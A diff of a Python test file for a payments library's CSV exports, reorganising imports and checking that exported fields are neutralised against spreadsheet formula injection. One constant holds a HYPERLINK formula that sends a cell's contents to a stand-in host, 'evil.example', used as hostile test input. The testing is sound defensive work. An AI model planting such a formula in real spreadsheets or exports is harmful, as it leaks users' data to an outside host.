@@ -10,9 +10,12 @@ from pathlib import Path
 
 import pytest
 
-from dollr_core import audit, bulk, spreadsheet, users
-from dollr_core.access import Actor
+from dollr_core.basics import spreadsheet
+from dollr_core.basics.access import Actor
+from dollr_core.bulk import batches
+from dollr_core.ledger import audit
 from dollr_core.services import Services
+from dollr_core.team import users
 
 ROOT = Path(__file__).resolve().parents[2]
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
@@ -56,21 +59,21 @@ def test_a_sign_in_email_is_neutralised_in_the_audit_export(sqlite_services: Ser
 
 def test_a_phone_is_neutralised_in_the_bulk_results(sqlite_services: Services, finance: Actor) -> None:
     rows = [
-        bulk.RowInput("Niyonsaba Émilienne", EVIL, "10", "USD"),
-        bulk.RowInput("@Musa", "+231", "5", "USD"),
+        batches.RowInput("Niyonsaba Émilienne", EVIL, "10", "USD"),
+        batches.RowInput("@Musa", "+231", "5", "USD"),
     ]
-    batch = bulk.create_batch(sqlite_services, finance, "Evil batch", rows)
+    batch = batches.create_batch(sqlite_services, finance, "Evil batch", rows)
     assert batch.id is not None
-    exported = _read(bulk.results_csv(sqlite_services, finance, batch.id))
+    exported = _read(batches.results_csv(sqlite_services, finance, batch.id))
     assert [r["phone"][:11] for r in exported] == ["'=HYPERLINK", "'+231"]
     assert [r["name"] for r in exported] == ["Niyonsaba Émilienne", "'@Musa"]
 
 
 def test_the_template_is_written_by_the_same_writer() -> None:
-    template = bulk.template_csv()
+    template = batches.template_csv()
     assert template.startswith(spreadsheet.BYTE_ORDER_MARK)
-    assert bulk.parse_rows(template)[0].name == "Musa Kollie"
-    assert bulk.parse_rows(template.encode())[0].name == "Musa Kollie"
+    assert batches.parse_rows(template)[0].name == "Musa Kollie"
+    assert batches.parse_rows(template.encode())[0].name == "Musa Kollie"
 
 
 def test_no_other_module_writes_csv() -> None:
